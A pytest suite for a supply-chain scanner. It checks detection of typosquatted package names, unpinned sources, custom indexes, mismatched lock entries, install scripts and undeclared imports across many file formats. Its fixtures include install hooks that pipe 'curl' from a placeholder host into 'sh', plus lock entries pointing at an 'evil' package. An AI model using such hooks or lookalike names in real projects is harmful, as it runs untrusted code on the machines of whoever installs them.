"""What the scanner says of each kind of file, and what it leaves alone."""

from __future__ import annotations

import json

import pytest

from aigate.domain.finding import Gap, Sighting
from tests.dependencies.look import look, said

COMMIT = "0123456789abcdef0123456789abcdef01234567"
DIGEST = "ab" * 32
SURE, GUESS = "lookalike-package high", "lookalike-package medium"
PINNED = f"git+https://github.com/acme/tool@{COMMIT}"


def package(**fields: object) -> str:
    return json.dumps({"name": "mine", **fields}, indent=2)


def locked(**packages: dict[str, object]) -> str:
    return json.dumps(
        {
            "lockfileVersion": 3,
            "packages": {"": {}, **{f"node_modules/{k}": v for k, v in packages.items()}},
        },
        indent=1,
    )


def archive(name: str, version: str = "1.0.0", host: str = "registry.npmjs.org") -> str:
    return f"https://{host}/{name}/-/{name.rpartition('/')[2]}-{version}.tgz"


# Where a name is declared, in every form that there is: each says `reqeusts` or `loadsh` once.
DECLARED = {
    "requirements": ("requirements.txt", "flask\nreqeusts>=2\n", 2),
    "requirements-crlf": ("requirements.txt", "flask\r\nreqeusts>=2\r\n", 2),
    "requirements-bom": ("requirements.txt", "\ufeffreqeusts\n", 1),
    "requirements-extras": (
        "dev-requirements.in",
        "reqeusts [socks] ~=2.1 ; python_version < '4' # x\n",
        1,
    ),
    "requirements-hashes": ("requirements/base.txt", "reqeusts==2.1 \\\n  --hash=sha256:ab\n", 1),
    "constraints": ("constraints.txt", "reqeusts<3\n", 1),
    "requirements-form-feed": ("requirements.txt", "flask\x0creqeusts\n", 1),
    "requirements-separator": ("requirements.txt", "flask\u2028reqeusts\n", 1),
    "requirements-after-comment": ("requirements.txt", "# a \\\nreqeusts\n", 2),
    "requirements-arbitrary": ("requirements.txt", "reqeusts===2.0-a@b\n", 1),
    "requirements-variable": ("requirements.txt", "reqeusts==${V}\n", 1),
    "requirements-many-extras": ("requirements.txt", f"reqeusts[{','.join('ab' * 200)}]\n", 1),
    "requirements-unseen": ("requirements.txt", "requ\u200bests\n", 1),
    "requirements-tag": ("requirements.txt", "requests\U000e0061\n", 1),
    "pyproject": ("pyproject.toml", '[project]\nname = "x"\ndependencies = ["reqeusts>=2"]\n', 3),
    "pyproject-optional": (
        "pyproject.toml",
        '[project.optional-dependencies]\na = ["flask"]\nb = ["reqeusts"]\n',
        3,
    ),
    "pyproject-groups": (
        "pyproject.toml",
        '[dependency-groups]\na = ["reqeusts"]\nb = [{include-group = "a"}]\n',
        2,
    ),
    "pyproject-build": ("pyproject.toml", '[build-system]\nrequires = ["reqeusts"]\n', 2),
    "poetry": (
        "pyproject.toml",
        '[tool.poetry.dependencies]\npython = "^3.11"\nreqeusts = "^2"\n',
        3,
    ),
    "poetry-group": (
        "pyproject.toml",
        '[tool.poetry.group.dev.dependencies]\nreqeusts = {version = "^2", extras = ["a"]}\n',
        2,
    ),
    "pdm": ("pyproject.toml", '[tool.pdm.dev-dependencies]\ndev = ["reqeusts"]\n', 2),
    "hatch": ("pyproject.toml", '[tool.hatch.envs.default]\ndependencies = ["reqeusts"]\n', 2),
    "uv": ("pyproject.toml", '[tool.uv]\ndev-dependencies = ["reqeusts"]\n', 2),
    "pixi": ("pixi.toml", '[tool.pixi.pypi-dependencies]\nreqeusts = "*"\n', 2),
    "setup-cfg": ("setup.cfg", "[options]\ninstall_requires =\n  flask\n  reqeusts>=2\n", 4),
    "setup-cfg-extras": ("setup.cfg", "[options.extras_require]\na =\n  reqeusts\n", 3),
    "setup-py": (
        "setup.py",
        "from setuptools import setup\nsetup(install_requires=['reqeusts>=2'])\n",
        2,
    ),
    "setup-py-variable": (
        "setup.py",
        "from setuptools import setup\nNEEDS = ['flask'] + [\n  'reqeusts']\nsetup(install_requires=NEEDS)\n",
        3,
    ),
    "setup-py-extras": (
        "setup.py",
        "from setuptools import setup\nsetup(extras_require={'a': ['reqeusts']})\n",
        2,
    ),
    "setup-py-grown": ("setup.py", "R: list = []\nR += ['reqeusts']\nsetup(install_requires=R)\n", 2),
    "setup-py-appended": ("setup.py", "R = []\nR.append('reqeusts')\nsetup(install_requires=R)\n", 2),
    "setup-py-twice": ("setup.py", "R = ['reqeusts']\nS = R + ['flask']\nsetup(install_requires=S)\nS = []\n", 1),
    "setup-py-mapping": ("setup.py", "setup(**{'install_requires': [*('reqeusts',)]})\n", 1),
    "setup-py-call": ("setup.py", "setup(install_requires=list({'reqeusts'}))\n", 1),
    "setup-cfg-dash": ("setup.cfg", "[options]\ninstall-requires =\n  reqeusts\n", 3),
    "requirements-bare": ("requirements", "reqeusts\n", 1),
    "requirements-lock": ("requirements-dev.lock", "reqeusts==1\n", 1),
    "requirements-short": ("test-reqs.txt", "reqeusts\n", 1),
    "poetry-path-lie": ("pyproject.toml", '[tool.poetry.dependencies]\nreqeusts = {version = "1", path = "", workspace = false}\n', 2),
    "poetry-plugins": ("pyproject.toml", '[tool.poetry.requires-plugins]\nreqeusts = "*"\n', 2),
    "pixi-top": ("pixi.toml", '[pypi-dependencies]\nreqeusts = "*"\n', 2),
    "pixi-feature": ("pyproject.toml", '[tool.pixi.feature.a.target.linux-64.pypi-dependencies]\nreqeusts = "*"\n', 2),
    "flit": ("pyproject.toml", '[tool.flit.metadata]\nrequires = ["reqeusts"]\n', 2),
    "hatch-hook": ("pyproject.toml", '[tool.hatch.build.hooks.custom]\ndependencies = ["reqeusts"]\n', 2),
    "hatch-override": ("pyproject.toml", '[tool.hatch.envs.a.overrides.matrix.x]\ndependencies = [{value = "reqeusts", if = ["y"]}]\n', 2),
    "hatch-own": ("hatch.toml", '[envs.default]\ndependencies = ["reqeusts"]\n', 2),
    "uv-build": ("pyproject.toml", '[tool.uv.extra-build-dependencies]\nflask = ["reqeusts"]\n', 2),
    "uv-metadata": ("pyproject.toml", '[[tool.uv.dependency-metadata]]\nname = "flask"\nrequires-dist = ["reqeusts"]\n', 3),
    "uv-own": ("uv.toml", 'override-dependencies = ["reqeusts"]\n', 1),
    "pdm-overrides": ("pyproject.toml", '[tool.pdm.resolution.overrides]\nreqeusts = "1"\n', 2),
    "tox": ("tox.ini", "[testenv]\ndeps =\n  py311: reqeusts>=1\n", 3),
    "tox-command": ("tox.ini", "[testenv]\ncommands = pip install reqeusts\n", 2),
    "conda-flow": ("environment.yml", "dependencies:\n- pip: [flask, 'reqeusts']\n", 2),
    "conda-quoted": ("environment.yml", "'dependencies':\n- \"pip\":\n  - reqeusts\n", 3),
    "pnpm-catalog": ("pnpm-workspace.yaml", "packages:\n- a\ncatalog:\n  loadsh: ^4.0.0\n", 4),
    "pnpm-overrides": ("pnpm-workspace.yaml", "overrides:\n  'a>lodash': npm:loadsh@4\n", 2),
    "bun-catalog": ("package.json", package(workspaces={"packages": ["a"], "catalog": {"loadsh": "1"}}), 8),
    "pnpm-extensions": ("package.json", package(pnpm={"packageExtensions": {"react": {"dependencies": {"loadsh": "1"}}}}), 7),
    "pipfile": ("Pipfile", '[packages]\nflask = "*"\nreqeusts = "*"\n', 3),
    "conda-pip": (
        "environment.yml",
        "name: x\ndependencies:\n  - numpy=1.2\n  - pip:\n    - reqeusts==2\n",
        5,
    ),
    "script-header": (
        "tool.py",
        '# /// script\n# dependencies = [\n#   "reqeusts",\n# ]\n# ///\nprint(1)\n',
        3,
    ),
    "package-json": ("package.json", package(dependencies={"loadsh": "^4"}), 4),
    "package-json-tilde": ("package.json", package(dependencies={"loadsh": "~4.1.0"}), 4),
    "package-json-loud": ("package.json", package(dependencies={"a": "NPM:loadsh@4"}), 4),
    "package-json-dev": ("web/package.json", package(devDependencies={"loadsh": "^4"}), 4),
    "package-json-peer": ("package.json", package(peerDependencies={"loadsh": "*"}), 4),
    "package-json-overrides": ("package.json", package(overrides={"a": {"loadsh": "4"}}), 5),
    "package-json-resolutions": ("package.json", package(resolutions={"**/loadsh": "4"}), 4),
    "package-json-alias": ("package.json", package(dependencies={"lodash": "npm:loadsh@4.1.0"}), 4),
    "dockerfile": ("Dockerfile", "FROM python\nRUN pip install --no-cache-dir flask reqeusts\n", 2),
    "dockerfile-lines": ("Dockerfile", "RUN pip install \\\n    flask \\\n    reqeusts\n", 3),
    "dockerfile-comment": ("Dockerfile", "RUN pip install \\\n    # why\n\n    reqeusts\n", 4),
    "dockerfile-heredoc": ("Dockerfile", "RUN <<EOF\npip install reqeusts\nEOF\n", 2),
    "dockerfile-variable": (
        "Dockerfile",
        "ENV NEEDS='flask reqeusts'\nRUN pip install $NEEDS\n",
        1,
    ),
    "dockerfile-version": ("Dockerfile", "RUN pip install reqeusts==${V}\n", 1),
    "dockerfile-path": ("Dockerfile", "RUN .venv/bin/pip install reqeusts\n", 1),
    "dockerfile-options": (
        "Dockerfile",
        "RUN pip -q --log a.log -q -q -q -q install reqeusts\n",
        1,
    ),
    "dockerfile-redirected": ("Dockerfile", "RUN pip install >/dev/null 2>&1 reqeusts\n", 1),
    "shell-padding": ("build.sh", f"pip install {' ' * 10_000} reqeusts\n", 1),
    "shell-comment": ("build.sh", "# a \\\npip install reqeusts\n", 2),
    "shell-echo": ("build.sh", "echo hello; pip install reqeusts\n", 1),
    "shell-download": ("build.sh", "pip download reqeusts\n", 1),
    "shell-uv-with": ("build.sh", "uv run --with reqeusts a.py\n", 1),
    "shell-npm-options": ("build.sh", "npm --prefix web install loadsh\n", 1),
    "shell-yarn-workspace": ("build.sh", "yarn workspace @acme/web add loadsh\n", 1),
    "shell-pnpm-filter": ("build.sh", "pnpm --filter web add loadsh\n", 1),
    "powershell": ("build.ps1", "pip install `\n  reqeusts\n", 2),
    "dockerfile-list": ("Dockerfile", 'RUN ["pip", "install", "reqeusts"]\n', 1),
    "workflow": (
        ".github/workflows/ci.yml",
        "jobs:\n  a:\n    steps:\n      - run: python -m pip install 'reqeusts[socks]>=2'\n",
        4,
    ),
    "shell-uv": ("build.sh", "uv pip install reqeusts\n", 1),
    "shell-uv-add": ("build.sh", "uv add flask reqeusts\n", 1),
    "shell-uvx": ("build.sh", "uvx reqeusts --help\n", 1),
    "shell-uvx-version": ("build.sh", "uvx reqeusts@1.0\n", 1),
    "shell-pipx": ("build.sh", "pipx run reqeusts\n", 1),
    "shell-poetry": ("build.sh", "poetry add --group dev reqeusts\n", 1),
    "shell-npm": ("build.sh", "npm install --save-dev react loadsh@4\n", 1),
    "shell-npx": ("build.sh", "cd web && npx -y loadsh init\n", 1),
    "shell-npx-package": ("build.sh", "npx --package=loadsh run\n", 1),
    "shell-pnpm": ("Makefile", "all:\n\tpnpm add loadsh\n", 2),
    "shell-yarn": ("build.sh", "yarn add loadsh\n", 1),
}  # fmt: skip


@pytest.mark.parametrize(("path", "text", "line"), DECLARED.values(), ids=DECLARED)
def test_a_name_that_looks_like_another_is_found_where_it_stands(path, text, line):
    assert said(look({path: text})) == [f"{SURE} {line}"]


def test_a_notebook_that_installs_is_read():
    cells = [{"cell_type": "code", "source": ["import os\n", "%pip install -q reqeusts\n"]}]
    notebook = json.dumps({"cells": cells, "metadata": {}, "nbformat": 4}, indent=1)
    (one,) = look({"a.ipynb": notebook})
    assert isinstance(one, Sighting)
    assert (one.rule, one.span.line) == ("lookalike-package", 2)


# What is no choice of this change's author, or no package at all.
WEAKER = {
    "guide": ("README.md", "Run it:\n\n    pip install reqeusts\n", [f"{GUESS} 3"]),
    "code": ("a.py", 'print("pip install reqeusts")\n', [f"{GUESS} 1"]),
    "conda": ("environment.yml", "dependencies:\n  - reqeusts\n", [f"{GUESS} 2"]),
    "lock": ("poetry.lock", '[[package]]\nname = "reqeusts"\nversion = "1"\n', [f"{GUESS} 2"]),
    "other-ecosystem": ("requirements.txt", "webpack\n", ["lookalike-package low 1"]),
    "guess": ("requirements.txt", "requestsaa\n", [f"{GUESS} 1"]),
    "letters": ("requirements.txt", "жук\n", [f"{SURE} 1"]),
}


@pytest.mark.parametrize(("path", "text", "wanted"), WEAKER.values(), ids=WEAKER)
def test_less_sure_is_less_severe(path, text, wanted):
    assert said(look({path: text})) == wanted


QUIET = {
    "known": ("requirements.txt", "requests\nFlask_SQLAlchemy==3.1\nruamel.yaml\n"),
    "code-of-that-name": ("a/SecurityRequirement.py", "x = 1\nreqeusts\n"),
    "code-of-that-name-too": ("a/requirements.py", "x = 1\nreqeusts\n"),
    "text-of-that-name": ("requirements.md", "reqeusts\n"),
    "own-name": ("requirements.txt", "acme-billing-client==1.4\n"),
    "prose": ("requirements.txt", "this is not for installers\nneither (is) this\n"),
    "files": ("requirements.txt", "-r base.txt\n-e .\n./wheels/x.whl\n../other\n$HOME/x\n"),
    "variables": ("build.sh", "pip install $PACKAGES ${X} . -r requirements.txt -e .[dev]\n"),
    "official-setting": (
        "a.sh",
        "export PIP_INDEX_URL=https://pypi.org/simple\nnpm config set registry https://registry.npmjs.org/\n",
    ),
    "paths": (
        "a.sh",
        "pip install ./x packages/ -e src/x; npm install ./web ../web; ls docs/pip install\n",
    ),
    "spoken": ("docs/a.md", "You can pip install reqeusts if you must.\n"),
    "extras": ("README.md", 'pip install "flask[toolkit]" requests[socks,toolkit]\n'),
    "extras-run": ("a.sh", 'pip install "flask[toolkit]" requests[socks,toolkit]\n'),
    "comment": ("README.md", "npm install\n\nnpm i\n"),
    "workspace": (
        "package.json",
        package(dependencies={"loadsh": "workspace:*", "b": "file:../b"}),
    ),
    "python-itself": ("Pipfile", '[requires]\npython_version = "3.11"\n[packages]\nflask = "*"\n'),
    "usual-scripts": (
        "package.json",
        package(
            scripts={"postinstall": "husky install && patch-package", "prepare": "npm run build"}
        ),
    ),
    "pinned": (
        "requirements.txt",
        f"tool @ {PINNED}\nx @ https://a.example/x.zip#sha256={DIGEST}\n",
    ),
    "pinned-npm": ("package.json", package(dependencies={"tool": f"github:acme/tool#{COMMIT}"})),
    "official": ("requirements.txt", "--index-url https://pypi.org/simple\nflask\n"),
    "empty": ("pyproject.toml", ""),
    "empty-json": ("package.json", "\n"),
    "yarn-berry": (
        "yarn.lock",
        (
            '"lodash@npm:^4.17.0, lodash@npm:^4.17.21":\n  version: 4.17.21\n'
            '  resolution: "lodash@npm:4.17.21"\n\n"old@npm:lodash@^4":\n  resolution: "lodash@npm:4.17.21"\n'
        ),
    ),
    "npm-alias": (
        "package-lock.json",
        locked(old={"name": "lodash", "resolved": archive("lodash")}).replace(
            '"": {}', '"": {"dependencies": {"old": "npm:lodash@^4"}}'
        ),
    ),
    "npm-scope": (
        "package-lock.json",
        locked(**{"@babel/core": {"resolved": archive("@babel/core")}}),
    ),
    "uv-lock": (
        "uv.lock",
        (
            '[[package]]\nname = "ruamel-yaml"\nversion = "0.18"\nsource = { registry = "https://pypi.org/simple" }\n'
            'wheels = [\n    { url = "https://files.example/ruamel.yaml-0.18-py3-none-any.whl", hash = "sha256:ab" },\n]\n'
        ),
    ),
}


@pytest.mark.parametrize(("path", "text"), QUIET.values(), ids=QUIET)
def test_ordinary_files_say_nothing(path, text):
    assert said(look({path: text})) == []


SOURCES = {
    "git-branch": ("requirements.txt", "a\ntool @ git+https://github.com/acme/tool@main\n", "medium 2"),
    "git-plain": ("requirements.txt", "git+https://github.com/acme/tool#egg=tool\n", "medium 1"),
    "git-editable": ("requirements.txt", "-e git+https://github.com/acme/tool@v1#egg=tool\n", "medium 1"),
    "archive": ("requirements.txt", "https://a.example/tool-1.0.tar.gz\n", "medium 1"),
    "cleartext": ("requirements.txt", "http://a.example/tool-1.0.tar.gz\n", "high 1"),
    "poetry": ("pyproject.toml", '[tool.poetry.dependencies]\ntool = {git = "https://a.example/t.git", branch = "x"}\n', "medium 2"),
    "uv": ("pyproject.toml", '[tool.uv.sources]\ntool = { git = "https://a.example/t", tag = "v1" }\n', "medium 2"),
    "npm-short": ("package.json", package(dependencies={"tool": "acme/tool"}), "medium 4"),
    "npm-branch": ("package.json", package(dependencies={"tool": "git+ssh://git@a.example/t.git#main"}), "medium 4"),
    "npm-archive": ("package.json", package(dependencies={"tool": "https://a.example/t.tgz"}), "medium 4"),
    "npm-loud": ("package.json", package(dependencies={"tool": "HTTP://a.example/t.tgz"}), "high 4"),
    "npm-user": ("package.json", package(dependencies={"tool": "me@a.example:acme/tool.git"}), "medium 4"),
    "editable-name": ("requirements.txt", "-e tool @ git+https://a.example/t\n", "medium 1"),
    "requirements-elsewhere": ("requirements.txt", "-r https://a.example/r.txt\n", "medium 1"),
    "command-list": ("Dockerfile", "RUN pip install -r https://a.example/r.txt\n", "medium 1"),
    "command-npm": ("a.sh", "npx github:acme/tool\n", "medium 1"),
    "command-npm-short": ("a.sh", "npm i acme/tool\n", "medium 1"),
    "command": ("Dockerfile", "RUN pip install git+https://github.com/acme/tool\n", "medium 1"),
}  # fmt: skip


@pytest.mark.parametrize(("path", "text", "wanted"), SOURCES.values(), ids=SOURCES)
def test_an_address_that_can_change_is_found(path, text, wanted):
    assert said(look({path: text})) == [f"unpinned-source {wanted}"]


INDEXES = {
    "requirements": ("requirements.txt", "--extra-index-url https://a.example/simple\nflask\n", "medium 1"),
    "cleartext": ("requirements.txt", "-i http://a.example/simple\n", "high 1"),
    "unchecked": ("requirements.txt", "--trusted-host a.example\n", "high 1"),
    "npmrc": (".npmrc", "# x\n@acme:registry=https://a.example/npm/\n", "medium 2"),
    "yarnrc": (".yarnrc.yml", 'npmRegistryServer: "https://a.example"\n', "medium 1"),
    "pip-conf": ("pip.conf", "[global]\nindex-url = https://a.example/simple\n", "medium 2"),
    "uv": ("pyproject.toml", '[[tool.uv.index]]\nname = "a"\nurl = "https://a.example/simple"\n', "medium 3"),
    "poetry": ("pyproject.toml", '[[tool.poetry.source]]\nname = "a"\nurl = "https://a.example/"\n', "medium 3"),
    "pipfile": ("Pipfile", '[[source]]\nurl = "https://a.example/simple"\nverify_ssl = true\n', "medium 2"),
    "bun": ("bunfig.toml", '[install]\nregistry = "https://a.example"\n', "medium 2"),
    "command": ("Dockerfile", "RUN pip install -i https://a.example/simple flask\n", "medium 1"),
    "environment": ("Dockerfile", "ENV PIP_INDEX_URL=https://a.example/simple\n", "medium 1"),
    "environment-npm": ("a.sh", "export npm_config_registry='https://a.example'\n", "medium 1"),
    "setting": ("a.sh", "pip config set global.index-url https://a.example/simple\n", "medium 1"),
    "setting-npm": ("a.sh", "npm config set @acme:registry http://a.example\n", "high 1"),
    "variable": ("Dockerfile", "ARG I=https://a.example/simple\nRUN pip install -i $I flask\n", "medium 1"),
    "npm-command": ("a.sh", "npm install react --registry=https://a.example\n", "medium 1"),
}  # fmt: skip


@pytest.mark.parametrize(("path", "text", "wanted"), INDEXES.values(), ids=INDEXES)
def test_an_index_that_the_change_names_is_found(path, text, wanted):
    assert said(look({path: text})) == [f"package-index-named {wanted}"]


def test_the_credentials_of_an_index_are_not_repeated():
    secret = "hun" + "ter22"
    (one,) = look({".npmrc": f"registry=https://user:{secret}@a.example/npm\n"})
    assert isinstance(one, Sighting)
    assert secret not in one.message
    assert "`a.example`" in one.message


MISMATCHES = {
    "npm": ("package-lock.json", locked(lodash={"resolved": archive("evil")}), "high 5"),
    "npm-file": ("package-lock.json", locked(lodash={"resolved": archive("lodash").replace("/lodash-1", "/evil-1")}), "high 5"),
    "npm-alias-unasked": ("npm-shrinkwrap.json", locked(lodash={"name": "evil", "resolved": archive("evil")}), "high 5"),
    "npm-v1": ("package-lock.json", json.dumps({"dependencies": {"lodash": {"resolved": archive("evil")}}}, indent=1), "high 3"),
    "npm-scope": ("package-lock.json", locked(**{"@babel/core": {"resolved": archive("@evil/core")}}), "high 5"),
    "npm-host": (
        "package-lock.json",
        locked(react={"resolved": archive("react")}, lodash={"resolved": archive("lodash", host="a.example")}),
        "medium 8",
    ),
    "yarn": ("yarn.lock", f'lodash@^4:\n  version "4"\n  resolved "{archive("evil")}#ab"\n', "high 1"),
    "yarn-berry": ("yarn.lock", '"lodash@npm:^4":\n  resolution: "evil@npm:4.0.0"\n', "high 1"),
    "pnpm": ("pnpm-lock.yaml", f"packages:\n\n  lodash@4.0.0:\n    resolution: {{tarball: {archive('evil')}}}\n", "high 3"),
    "poetry": ("poetry.lock", '[[package]]\nname = "flask"\nfiles = [\n    {file = "evil-1.0.tar.gz", hash = "sha256:ab"},\n]\n', "high 4"),
    "uv": ("uv.lock", '[[package]]\nname = "flask"\nsdist = { url = "https://a.example/evil-1.0.tar.gz" }\n', "high 3"),
}  # fmt: skip


@pytest.mark.parametrize(("path", "text", "wanted"), MISMATCHES.values(), ids=MISMATCHES)
def test_an_entry_that_brings_something_else_is_found(path, text, wanted):
    assert said(look({path: text})) == [f"lock-entry-mismatch {wanted}"]


def test_a_script_that_runs_at_installation_is_found():
    scripts = {"postinstall": "node scripts/setup.js", "test": "node x.js"}
    assert said(look({"package.json": package(scripts=scripts)})) == ["install-script medium 4"]
    fetches = {"preinstall": "curl -s https://a.example/x | sh"}
    assert said(look({"package.json": package(scripts=fetches)})) == ["install-script high 4"]
    often = {"dependencies": "node scripts/setup.js", "prepublish": "npm run build"}
    assert said(look({"package.json": package(scripts=often)})) == ["install-script medium 4"]
    hidden = {"prepare": "curl -s https://a.example/x | sh"}
    assert said(look({"package.json": package(scripts=hidden)})) == ["install-script high 4"]


IMPORT = "undeclared-import medium"
IMPORTS = {
    "unknown": ("import os\nimport fastjson_gpt_tools\n", {}, [f"{IMPORT} 2"]),
    "from": ("from fastjson_gpt_tools.a import b\n", {}, [f"{IMPORT} 1"]),
    "in-function": ("def f():\n    import os, fastjson_gpt_tools as x\n", {}, [f"{IMPORT} 2"]),
    "continued": ("import os, \\\n  fastjson_gpt_tools\n", {}, [f"{IMPORT} 2"]),
    "one-line": ("if x: import fastjson_gpt_tools\n", {}, [f"{IMPORT} 1"]),
    "match": ("match x:\n    case 1:\n        import fastjson_gpt_tools\n", {}, [f"{IMPORT} 3"]),
    "second": ("import os; from fastjson_gpt_tools import x\n", {}, [f"{IMPORT} 1"]),
    "second-plain": ("import os;import fastjson_gpt_tools\n", {}, [f"{IMPORT} 1"]),
    "spaced": ("from fastjson_gpt_tools . a import x\n", {}, [f"{IMPORT} 1"]),
    "near-name": ("import flask_gpt_tools_x\n", {"requirements.txt": "flask\n"}, [f"{IMPORT} 1"]),
    "standard": ("import os, sys, tomllib, distutils\nfrom . import x\n", {}, []),
    "known": ("import yaml, cv2, sklearn.svm, numpy, bs4, dotenv\n", {}, []),
    "declared": ("import fastjson_gpt_tools\n", {"pyproject.toml": '[project]\ndependencies = ["fastjson-gpt-tools"]\n'}, []),
    "declared-longer": ("import fastjsonx\n", {"requirements.txt": "acme-fastjsonx-binary\n"}, []),
    "locked": ("import fastjson_gpt\n", {"uv.lock": '[[package]]\nname = "fastjson-gpt"\n'}, []),
    "module": ("import acme_models\n", {"src/acme_models.py": ""}, []),
    "folder": ("from acme.models import x\n", {"src/acme/models.py": ""}, []),
    "optional": ("try:\n    import fastjson_gpt_tools\nexcept ImportError:\n    x = None\n", {}, []),
    "broken": ("import fastjson_gpt_tools\ndef (:\n", {}, []),
}  # fmt: skip


@pytest.mark.parametrize(("text", "others", "wanted"), IMPORTS.values(), ids=IMPORTS)
def test_imports_of_python(text, others, wanted):
    assert said(look({"app.py": text}, others)) == wanted


SCRIPTS = {
    "import": ("import x from 'fastjson-gpt-tools';\n", {}, [f"{IMPORT} 1"]),
    "names": ("import {\n  a,\n  b,\n} from 'fastjson-gpt-tools/sub';\n", {}, [f"{IMPORT} 4"]),
    "require": ("const x = require('fastjson-gpt-tools')\n", {}, [f"{IMPORT} 1"]),
    "dynamic": ("const x = await import('fastjson-gpt-tools')\n", {}, [f"{IMPORT} 1"]),
    "dynamic-quotes": ("const x = await import(`fastjson-gpt-tools`)\n", {}, [f"{IMPORT} 1"]),
    "require-lines": ("const x = require(\n  'fastjson-gpt-tools',\n)\n", {}, [f"{IMPORT} 2"]),
    "second": ("x();import a from 'fastjson-gpt-tools'\n", {}, [f"{IMPORT} 1"]),
    "no-comment": ("const a = '/*'\nimport x from 'fastjson-gpt-tools'\nconst b = '*/'\n", {}, [f"{IMPORT} 2"]),
    "computed": ("const x = await import(`./${name}/fastjson-gpt-tools`)\n", {}, []),
    "export": ("export * from '@fastjson-gpt/tools'\n", {}, [f"{IMPORT} 1"]),
    "standard": ("import fs from 'node:fs'; const p = require('path')\n", {}, []),
    "known": ("import React from 'react'\nimport _ from 'lodash/fp'\n", {}, []),
    "relative": ("import x from './x'\nimport y from '../y'\nimport z from '#z'\nimport q from '@/q'\n", {}, []),
    "declared": ("import x from 'fastjson-gpt'\n", {"package.json": package(dependencies={"fastjson-gpt": "1"})}, []),
    "own": ("import x from '@acme/ui'\n", {"ui/package.json": '{"name": "@acme/ui"}'}, []),
    "alias": ("import x from '@acme/ui'\n", {"tsconfig.json": '{"compilerOptions": {"paths": {"@acme/*": ["x"]}}}'}, []),
    "folder": ("import x from 'components/button'\n", {"src/components/button.ts": ""}, []),
    "comment": ("// import x from 'fastjson-gpt-tools'\n/* require('fastjson-gpt-tools') */\n", {}, []),
    "url": ("import x from 'https://a.example/x.js'\nimport 'virtual:x'\n", {}, []),
}  # fmt: skip


@pytest.mark.parametrize(("text", "others", "wanted"), SCRIPTS.values(), ids=SCRIPTS)
def test_imports_of_scripts(text, others, wanted):
    assert said(look({"app.ts": text}, others)) == wanted


def test_an_import_that_looks_like_a_known_one_says_so():
    (one,) = look({"app.py": "import reqeusts\n"})
    assert isinstance(one, Sighting)
    assert "looks like `requests`" in one.message


def test_what_cannot_be_read_is_a_gap():
    for path, text in {
        "package.json": "{ name: mine }",
        "pyproject.toml": "[project\n",
        "Pipfile": "packages = {",
        "package-lock.json": '{"packages": ',
        "setup.cfg": "a = b\n",
    }.items():
        (gap,) = look({path: text})
        assert isinstance(gap, Gap)
        assert gap.code == "dependencies-unread"
        assert gap.subject == path


def test_damaged_data_is_a_gap(tmp_path):
    (gap,) = look({"requirements.txt": "reqeusts\n"}, packs=str(tmp_path))
    assert isinstance(gap, Gap)
    assert gap.code == "installation-damaged"


def test_nothing_of_dependencies_reads_nothing_of_the_data(tmp_path):
    assert look({"a.py": "import os\n", "b.md": "hello\n"}, packs=str(tmp_path)) == []


def test_what_a_lock_file_brings_is_shown_short_and_on_one_line():
    url = "https://registry.npmjs.org/" + "e`\n\u001b" * 5_000 + "/-/e-1.0.0.tgz"
    (one,) = look({"package-lock.json": locked(lodash={"resolved": url})})
    assert isinstance(one, Sighting)
    assert len(one.message) < 300
    assert "\n" not in one.message
